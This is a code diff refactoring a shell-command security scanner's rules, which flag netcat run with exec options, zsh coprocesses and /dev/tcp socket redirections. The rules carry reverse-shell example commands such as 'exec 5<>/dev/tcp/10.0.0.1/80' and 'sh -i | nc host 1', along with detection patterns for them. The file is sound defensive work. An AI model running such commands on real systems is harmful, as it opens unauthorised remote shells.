@@ -8,6 +8,7 @@ import {
   after,
   matching,
   NO_OUTPUT,
+  redirectedTo,
   type SimpleCommand,
   says,
   TAINT,
@@ -95,9 +96,9 @@ export const SHELL_RULES: readonly (Rule | FormRule)[] = [
           .map((r) => r.target)
       }
       // zsh names the two ends of a coprocess `p`.
-      const tied = c.scope.shell === 'zsh' ? c.redirections.filter((r) => r.target.text === 'p') : []
+      const tied = c.scope.shell === 'zsh' ? matching(redirectedTo(c, /./), /^p$/) : []
       if (/^(?:nc|ncat|netcat)(?:\.\w+)?$/.test(c.name)) {
-        if (tied.length > 1) return tied.map((r) => r.target)
+        if (tied.length > 1) return tied
         return only(
           says(c, /sh\b|bash|cmd|exec|perl|python/),
           matching(c.args, /^(?:-[a-zA-Z]*e|-c|--exec|--sh-exec|--lua-exec)$|^--(?:sh-)?exec=/),
@@ -132,8 +133,7 @@ export const SHELL_RULES: readonly (Rule | FormRule)[] = [
     level: 'high',
     why: 'Connects this shell to the network, as a reverse shell does.',
     tools: tools('exec'),
-    when: (c) =>
-      c.redirections.filter((r) => r.operator === '<>' && SOCKET.test(r.target.text)).map((r) => r.target),
+    when: (c) => matching(redirectedTo(c, /^<>$/), SOCKET),
     example: 'exec 5<>/dev/tcp/10.0.0.1/80',
   },
   {
@@ -141,11 +141,7 @@ export const SHELL_RULES: readonly (Rule | FormRule)[] = [
     level: 'moderate',
     why: 'Opens a network connection through a redirection.',
     tools: ['*'],
-    when: (c) =>
-      only(
-        !SHELLS.has(c.name),
-        c.redirections.filter((r) => SOCKET.test(r.target.text)).map((r) => r.target),
-      ),
+    when: (c) => only(!SHELLS.has(c.name), matching(redirectedTo(c, /./), SOCKET)),
     example: 'echo x > /dev/tcp/h/22',
   },
   {
@@ -157,10 +153,8 @@ export const SHELL_RULES: readonly (Rule | FormRule)[] = [
       const has = (kind: number) => (c.input.taint & kind) !== 0
       if (!SHELLS.has(c.name))
         return has(TAINT.shell) && (c.name !== 'openssl' || c.args[0]?.text === 's_client')
-      const tied = c.redirections.filter((r) => c.scope.sockets?.has(r.target.text))
-      return tied.length > 0
-        ? tied.map((r) => r.target)
-        : has(TAINT.dialogue) && c.args.every((arg) => /^-[isl]*$/.test(arg.text))
+      const tied = redirectedTo(c, /./).filter(({ text }) => c.scope.sockets?.has(text))
+      return tied.length > 0 ? tied : has(TAINT.dialogue) && c.args.every((arg) => /^-[isl]*$/.test(arg.text))
     },
     example: 'sh -i | nc host 1',
   },
